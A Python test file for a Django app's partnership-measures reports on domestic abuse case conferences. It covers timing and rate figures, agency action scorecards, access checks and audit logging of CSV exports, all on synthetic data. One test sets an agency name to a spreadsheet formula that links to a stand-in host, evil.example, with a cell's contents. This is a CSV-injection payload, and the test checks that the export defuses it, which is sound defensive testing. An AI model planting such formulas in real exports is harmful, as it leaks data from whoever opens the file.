"""The partnership's measures (reports.measures and its page): time to first contact and in each
stage, cases per 10,000 against the benchmark, the repeat rate and the actions scorecard, as SQL
aggregates in a fixed number of queries, shown only to the coordinators and chairs of the areas."""

import csv
import io
from datetime import date, datetime, time

import pytest
from django.db import connection
from django.utils import timezone

from audit.models import AccessEvent
from demo.synthetic import Hearing, bulk_hearings
from marac.models import MaracArea, Role
from marac.periods import financial_year
from meetings.models import Action, ActionUpdate
from referrals.models import Referral
from reports.measures import measures_for
from tests.conftest import make_person
from tests.reports.test_report_pages import reauthenticated

YEAR = 2024  # April 2024 to March 2025: over, so each rate is over a whole year
PERIOD = financial_year(YEAR)
HEARD_ON = date(2024, 10, 15)
SUBMITTED = date(2024, 10, 1)  # bulk_hearings submits 14 days before the meeting
TODAY = timezone.localdate()


def _at(day: date):
    return timezone.make_aware(datetime.combine(day, time(12)))


def _action(meeting, case, agency, by, *, due: date, status: str, done_on: date | None = None) -> Action:
    action = Action.objects.create(
        meeting=meeting, case=case, agency=agency, owner="Duty worker", description="Check in", due_on=due, status=status, created_by=by
    )
    if done_on:
        update = ActionUpdate.objects.create(action=action, case=case, note="Done", status=Action.Status.DONE, by=by)
        ActionUpdate.objects.filter(pk=update.pk).update(at=_at(done_on))
    return action


@pytest.fixture
def figures(hold, area, other_area, idva, police, coordinator):
    area.adult_female_population = 40_000
    area.save()
    meeting = hold(HEARD_ON)
    cases = bulk_hearings(
        meeting=meeting, hearings=[Hearing(repeat_current=True), Hearing(), Hearing(), Hearing()], agency=idva, by=coordinator
    )
    for case, gap in zip(cases, [2, 4, 6, None], strict=True):
        Referral.objects.filter(case=case).update(
            decided_at=_at(date(2024, 10, 3)), first_contact_on=None if gap is None else date.fromordinal(SUBMITTED.toordinal() + gap)
        )
    elsewhere = bulk_hearings(meeting=hold(HEARD_ON, other_area), hearings=[Hearing()], agency=police, by=coordinator, first_number=50)
    Referral.objects.filter(case=elsewhere[0]).update(decided_at=_at(date(2024, 10, 11)), first_contact_on=date(2024, 10, 21))
    _action(meeting, cases[0], idva, coordinator, due=date(2024, 11, 1), status=Action.Status.DONE, done_on=date(2024, 10, 30))
    _action(meeting, cases[1], idva, coordinator, due=date(2024, 11, 1), status=Action.Status.DONE, done_on=date(2024, 11, 5))
    _action(meeting, cases[2], idva, coordinator, due=date(2024, 11, 1), status=Action.Status.OPEN)
    _action(meeting, cases[3], idva, coordinator, due=date(2024, 11, 1), status=Action.Status.NOT_POSSIBLE)
    _action(meeting, cases[0], police, coordinator, due=date(2024, 12, 1), status=Action.Status.DONE)  # done before go-live: no update
    _action(meeting, cases[1], police, coordinator, due=date(2025, 5, 1), status=Action.Status.OPEN)  # due after the period
    return cases


def test_it_measures_first_contact_each_stage_the_rate_and_repeats(area, other_area, figures):
    m = measures_for([area], PERIOD, today=TODAY)
    (row,) = m.areas
    assert m.average == ("median" if connection.vendor == "postgresql" else "mean")
    # 2, 4 and 6 days: 4 as a median and as a mean; the fourth has no first contact yet.
    assert (row.to_first_contact.shown, row.to_first_contact.counted, row.no_first_contact, row.submitted) == (4.0, 3, 1, 4)
    assert (row.to_decision.shown, row.to_decision.counted) == (2.0, 4)
    assert (row.to_hearing.shown, row.to_hearing.counted) == (12.0, 4)  # decided 3 October, heard 15 October
    assert (row.ni32.repeats, row.ni32.heard, row.per_10000_year) == (1, 4, 1.0)  # 4 a year per 40,000 adult women
    assert m.across is None


def test_across_areas_the_times_are_worked_over_every_record_not_averaged_by_area(area, other_area, figures):
    m = measures_for([area, other_area], PERIOD, today=TODAY)
    assert [r.name for r in m.areas] == ["North West Leicestershire", "Charnwood"]
    assert (m.areas[1].to_first_contact.shown, m.areas[1].to_hearing.shown) == (20.0, 4.0)
    assert m.across.to_first_contact.counted == 4 and m.across.ni32.heard == 5
    expected = 5.0 if connection.vendor == "postgresql" else 8.0  # median of 2, 4, 6, 20 / their mean
    assert m.across.to_first_contact.shown == expected
    assert m.areas[1].per_10000_year is None and m.across.per_10000_year == 1.0  # only areas with a population


def test_the_scorecard_counts_actions_due_in_the_period_by_agency(area, figures):
    scores = {s.agency: s for s in measures_for([area], PERIOD, today=TODAY).scorecard}
    women, police = scores["Loughborough Women's Aid"], scores["Leicestershire Police"]
    assert (women.due, women.on_time, women.late, women.overdue, women.not_possible, women.not_yet_due) == (4, 1, 1, 1, 1, 0)
    assert women.on_time_percentage == 25.0
    assert (police.due, police.undated, police.on_time, police.late) == (1, 1, 0, 0)


def test_it_takes_a_fixed_number_of_queries_however_many_areas(area, other_area, figures, django_assert_num_queries):
    areas = [area, other_area, *(MaracArea.objects.create(name=f"Area {n}", short_code=f"A{n}") for n in range(8))]
    # Across the areas comes from the same scans on PostgreSQL (GROUP BY ROLLUP), from two more
    # elsewhere; PostgreSQL is told once not to JIT-compile them.
    postgres = connection.vendor == "postgresql"
    with django_assert_num_queries(5 if postgres else 6):
        measures_for(areas, PERIOD, today=TODAY)
    with django_assert_num_queries(5 if postgres else 4):
        measures_for([area], PERIOD, today=TODAY)


def test_the_coordinator_sees_the_measures_with_charts(sign_in_fully, coordinator, figures):
    page = sign_in_fully(coordinator).get(f"/reports/measures/?year={YEAR}&area=NWL").content.decode()
    assert "Partnership measures" in page and "North West Leicestershire" in page and "Charnwood" not in page.split("<main")[-1]
    assert "25.0%" in page and "Loughborough Women&#x27;s Aid" in page and "<svg" in page
    assert "Synthetic person" not in page


def test_all_areas_is_the_persons_areas_only(sign_in_fully, area, police, other_area, figures):
    both = make_person("both", Role.COORDINATOR, police, area)
    page = sign_in_fully(both).get(f"/reports/measures/?year={YEAR}").content.decode()
    assert "North West Leicestershire" in page and "Charnwood" not in page and "All your areas" not in page.split("</select>")[-1]


def test_the_csv_needs_a_fresh_code_and_is_logged(sign_in_fully, client, coordinator, figures):
    sign_in_fully(coordinator)
    assert client.get(f"/reports/measures.csv?year={YEAR}").url.startswith("/account/confirm/")
    assert not AccessEvent.objects.filter(event="export", user=coordinator).exists()
    reauthenticated(client)
    response = client.get(f"/reports/measures.csv?year={YEAR}&area=NWL")
    text = response.content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert response["Content-Disposition"] == f'attachment; filename="measures-NWL-{YEAR}.csv"'
    assert ["North West Leicestershire", "4", "1", "4.0", "2.0", "12.0", "4", "1", "25.0", "1.0"] in rows
    assert ["Loughborough Women's Aid", "4", "1", "1", "0", "1", "1", "0"] in rows
    assert "Synthetic" not in text
    assert AccessEvent.objects.filter(event="export", user=coordinator, purpose=f"measures CSV NWL {PERIOD.label}").exists()


@pytest.mark.parametrize("persona", ["referrer", "agency_rep", "auditor", "unrelated"])
def test_people_who_do_not_report_get_a_logged_403(request, sign_in_fully, client, figures, persona):
    person = request.getfixturevalue(persona)
    sign_in_fully(person)
    reauthenticated(client)
    for path in ("/reports/measures/", "/reports/measures/?area=NWL", "/reports/measures.csv?area=NWL"):
        response = client.get(path)
        assert response.status_code == 403, path
        assert "North West Leicestershire" not in response.content.decode()
    assert AccessEvent.objects.filter(event="report_access_denied", user=person, outcome="denied").count() == 3


def test_another_areas_coordinator_gets_a_logged_404_for_this_area(sign_in_fully, client, figures, other_area, police):
    elsewhere = make_person("cha_coordinator", Role.COORDINATOR, police, other_area)
    sign_in_fully(elsewhere)
    reauthenticated(client)
    assert client.get("/reports/measures/?area=NWL").status_code == 404
    assert client.get("/reports/measures.csv?area=NWL").status_code == 404
    assert AccessEvent.objects.filter(event="report_access_denied", user=elsewhere, outcome="denied").count() == 2
    assert not AccessEvent.objects.filter(event="export", user=elsewhere).exists()


@pytest.mark.parametrize("query", ["?year=abc", "?year=99999999999999999999", "?year=²", "?area=&year=", "?area=all&year=1900"])
def test_nonsense_in_the_query_is_ignored_not_a_500(sign_in_fully, coordinator, figures, query):
    assert sign_in_fully(coordinator).get("/reports/measures/" + query).status_code == 200


@pytest.mark.parametrize("code", ["<script>", "nwl", "X" * 5000])
def test_an_area_code_that_is_not_theirs_is_a_404_not_a_500(sign_in_fully, coordinator, figures, code):
    response = sign_in_fully(coordinator).get("/reports/measures/", {"area": code})
    assert response.status_code == 404 and "<script>" not in response.content.decode()


def test_get_only(sign_in_fully, coordinator, figures):
    assert sign_in_fully(coordinator).post("/reports/measures/").status_code == 405


def test_the_demo_shows_measures_for_north_west_leicestershire(db, sign_in_fully):
    from django.core.management import call_command

    from marac.models import User
    from marac.periods import rolling_year

    call_command("seed_demo", "--without-packs")
    nwl = MaracArea.objects.get(short_code="NWL")
    m = measures_for([nwl], rolling_year(TODAY), today=TODAY)
    (row,) = m.areas
    assert row.to_first_contact.counted >= 3 and row.no_first_contact >= 1
    assert row.to_decision.shown == 2.0 and row.to_hearing.counted >= 1
    assert {s.agency for s in m.scorecard} >= {"Leicestershire Police", "Loughborough Women's Aid"}
    assert sum(s.on_time for s in m.scorecard) >= 1 and sum(s.overdue for s in m.scorecard) >= 1
    page = sign_in_fully(User.objects.get(username="coordinator")).get("/reports/measures/?area=NWL")
    assert page.status_code == 200 and "North West Leicestershire" in page.content.decode()


def test_an_agency_or_area_name_cannot_be_a_spreadsheet_formula_in_the_csv(sign_in_fully, client, area, coordinator, figures, idva):
    # Review: names are typed by administrators; a cell starting "=" ran as a formula when opened.
    idva.name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    idva.save()
    area.name = "+North West Leicestershire"
    area.save()
    sign_in_fully(coordinator)
    reauthenticated(client)
    rows = list(csv.reader(io.StringIO(client.get(f"/reports/measures.csv?year={YEAR}&area=NWL").content.decode())))
    cells = [row[0] for row in rows if row]
    assert "'" + idva.name in cells and "'+North West Leicestershire" in cells
    assert not any(cell[:1] in ("=", "+", "-", "@") for cell in cells)


def test_actions_not_yet_due_do_not_count_against_the_on_time_percentage(area, hold, idva, coordinator):
    # Review: in a year under way the percentage was over every action due in the year, so an
    # agency that had done every action fallen due so far showed as mostly late.
    today = date(2025, 1, 15)
    meeting = hold(date(2024, 10, 15))
    (case,) = bulk_hearings(meeting=meeting, hearings=[Hearing()], agency=idva, by=coordinator)
    _action(meeting, case, idva, coordinator, due=date(2024, 11, 1), status=Action.Status.DONE, done_on=date(2024, 10, 30))
    for _ in range(3):
        _action(meeting, case, idva, coordinator, due=date(2025, 3, 1), status=Action.Status.OPEN)
    (score,) = measures_for([area], PERIOD, today=today).scorecard
    assert (score.due, score.on_time, score.not_yet_due, score.fallen_due) == (4, 1, 3, 1)
    assert score.on_time_percentage == 100.0


def test_with_nothing_fallen_due_there_is_no_percentage(area, hold, idva, coordinator):
    meeting = hold(date(2024, 10, 15))
    (case,) = bulk_hearings(meeting=meeting, hearings=[Hearing()], agency=idva, by=coordinator)
    _action(meeting, case, idva, coordinator, due=date(2025, 3, 1), status=Action.Status.OPEN)
    (score,) = measures_for([area], PERIOD, today=date(2025, 1, 15)).scorecard
    assert score.on_time_percentage is None


def test_jit_is_turned_off_for_the_measures_transaction_only_and_never_on_sqlite(area):
    from django.db import transaction
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as captured:
        measures_for([area], PERIOD, today=TODAY)
    sets = [q["sql"] for q in captured.captured_queries if q["sql"].upper().startswith("SET")]
    if connection.vendor != "postgresql":
        assert sets == []
        return
    assert sets == ["SET LOCAL jit = off"]

    def jit() -> str:
        with connection.cursor() as cursor:
            cursor.execute("SHOW jit")
            return cursor.fetchone()[0]

    # SET LOCAL holds to the end of the transaction it is in, no further: outside one, the
    # measures open their own (and commit it); inside a caller's (here a savepoint rolled back)
    # it ends with that. Either way the session's setting is untouched afterwards.
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL jit = on")  # as a server with JIT on
    with transaction.atomic():
        measures_for([area], PERIOD, today=TODAY)
        assert jit() == "off"
        transaction.set_rollback(True)
    assert jit() == "on"
